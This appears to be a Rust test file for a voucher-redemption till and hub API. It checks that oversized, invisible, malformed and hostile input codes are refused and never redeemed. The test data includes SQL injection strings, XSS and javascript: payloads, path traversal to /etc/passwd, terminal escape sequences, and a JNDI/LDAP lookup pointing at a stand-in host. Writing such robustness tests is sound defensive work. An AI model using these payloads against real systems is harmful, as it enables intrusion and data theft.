//! Texts that nobody means well: too long, invisible, turned round, for a database, for a browser, from the future. Each is
//! told for what it is, nothing is redeemed by it, and the next customer is served.

use std::time::Instant;

use base45::encode;
use countersign::app::demo::link::State;
use countersign::devices::Source;
use countersign::domain::money::Money;
use countersign::domain::redemption::{Claim, OrderContext};
use countersign::domain::verdict::Verdict;
use countersign::engine::present::Subject;
use countersign::engine::redeem::Outcome;
use countersign::hub::issue::Form;
use countersign::store::journal::{self, Verification};
use countersign::wire::verify::{Answer, Found, Verify};
use reqwest::{Method, StatusCode};
use serde_json::json;

use crate::hub::Place;
use crate::world::{Till, World, redeemed, refusal};

/// The texts, each by what is wrong with it.
fn texts() -> Vec<(&'static str, String)> {
    let signed = |first: u8, bytes: usize| {
        let mut body = vec![first; bytes];
        body[1..].fill(0x5A);
        format!("CS1:{}", encode(&body))
    };
    let mut texts = vec![
        ("ten thousand characters", "界".repeat(10_000)),
        ("ten kilobytes behind our prefix", format!("CS0:{}", "A".repeat(10_240))),
        ("ten kilobytes of digits", "9".repeat(10_240)),
        ("nested without end", format!(r#"{{"countersign":1,"url":{}"#, "[".repeat(400))),
        ("a newer format", "CS9:FROM THE FUTURE".to_owned()),
        ("a newer version", signed(0x21, 92)),
        ("a newer algorithm", signed(0x1F, 92)),
        ("cut off", signed(0x11, 40)),
        ("families", "👩‍👩‍👧‍👦".repeat(30)),
    ];
    let plain = [
        ("nothing but a space", " "),
        ("nothing to see", "\u{200b}\u{feff}\u{2060}"),
        ("control characters", "\u{0}\u{1}\u{7}CS0:\u{1b}[2J\u{1b}]0;owned\u{7}"),
        ("turned round", "CS0:\u{202e}0000000000000000000000000G\u{2066}"),
        ("a statement", "'; DROP TABLE redemptions; --"),
        ("a statement behind our prefix", "CS0:' OR '1'='1"),
        ("a wildcard", "%_*?[a-z]"),
        ("a foreign link", "https://win.example.net/prize?code=CS0:0000000000000000000000000G"),
        ("a script", "javascript:alert(document.cookie)"),
        ("a file", "file:///etc/passwd"),
        ("a way up", "../../../../etc/passwd"),
        ("escapes", "https://v.example.com/%00%0a%ff?code=%f0%28"),
        ("a template", "${jndi:ldap://win.example.net/a} {{7*7}} %s%n"),
        ("markup", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
        ("half a pair", "\u{fffd}\u{fffe}"),
    ];
    texts.extend(plain.map(|(what, text)| (what, text.to_owned())));
    texts
}

/// What the counter does with a text from a device; the support code, or in a word what it is.
async fn told(till: &Till, text: &str, source: Source) -> &'static str {
    match till.engine.present(text, source, Instant::now()).await.expect("it can be told") {
        Subject::Voucher(presented) => {
            let order = OrderContext { total: Some(Money::from_minor(7_000)), ..OrderContext::default() };
            let outcome = till.engine.redeem(&presented, &Claim { order, ..Claim::default() }).await.unwrap();
            assert!(matches!(outcome, Outcome::Refused(Verdict::Refused(_))), "{text:?} came to {outcome:?}");
            refusal(&outcome)
        }
        Subject::ForeignLink(_) => "link",
        Subject::Search(_) => "search",
        Subject::NotHandled(kind) => kind.name(),
        Subject::Unusable(_) => "unusable",
        other => panic!("{text:?} was taken for {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_a_code_says_nothing_is_redeemed_by_it_and_the_next_customer_is_served() {
    let world = World::new().await;
    let campaign = world.campaign(&json!({})).await;
    let codes = world.codes(campaign, 2, Form::Opaque).await;
    let till = world.till("till 1").await;
    for (state, good) in [State::Whole, State::Cut].into_iter().zip(&codes) {
        till.link(state);
        for (what, text) in texts() {
            for source in [Source::Camera, Source::Wedge, Source::Serial, Source::Typed] {
                let said = told(&till, &text, source).await;
                let expected: &[&str] = match what {
                    "a newer format" | "a newer version" | "a newer algorithm" => &["update_needed"],
                    "cut off" => &["damaged", "update_needed"],
                    "a foreign link" => &["link"],
                    "ten thousand characters" | "ten kilobytes of digits" | "ten kilobytes behind our prefix" => {
                        &["unusable"]
                    }
                    "nothing but a space" | "nothing to see" => &["unusable"],
                    _ => continue,
                };
                assert!(expected.contains(&said), "{what} from {source:?}, {state:?}: {said}");
            }
        }
        redeemed(till.redeem(good).await);
    }
    till.link(State::Whole);
    till.drain().await;
    assert_eq!(world.held().await, 2);
    assert!(world.hub.admin.quarantine(10).await.unwrap().is_empty());
    assert!(matches!(till.store.read(journal::verify).await.unwrap(), Verification::Sound(_)));
}

#[tokio::test]
async fn the_hub_answers_whatever_it_is_asked_about() {
    let place = Place::new().await;
    let shop = place.shop("人民路店").await;
    let till = place.terminal(shop.id, "1").await;
    for (what, text) in texts() {
        let asked = Verify::Booking { code: text.clone() };
        let found: Result<Answer, _> = till.post("/v1/verify", &asked).await;
        assert_eq!(found.unwrap().found, Found::Nothing, "{what}");
        // Where an identity or a number is wanted, a text is none.
        let mut request = serde_json::to_value(till.request(place.voucher(1).await.id, 1)).unwrap();
        for field in ["id", "voucher", "take", "epoch"] {
            let kept = std::mem::replace(&mut request[field], json!(text));
            let refused: Result<serde_json::Value, _> = till.post("/v1/redeem", &request).await;
            assert_eq!(refused.unwrap_err().0, StatusCode::BAD_REQUEST, "{what} as {field}");
            request[field] = kept;
        }
        let raw = till.call(Method::POST, "/v1/redeem").header("Content-Type", "application/json").body(text.clone());
        assert!(raw.send().await.unwrap().status().is_client_error(), "{what}");
    }
    let voucher = place.voucher(1).await.id;
    let decision = till.redeem(&till.request(voucher, 1)).await.unwrap();
    assert!(matches!(decision, countersign::wire::redeem::Decision::Granted { .. }));
}
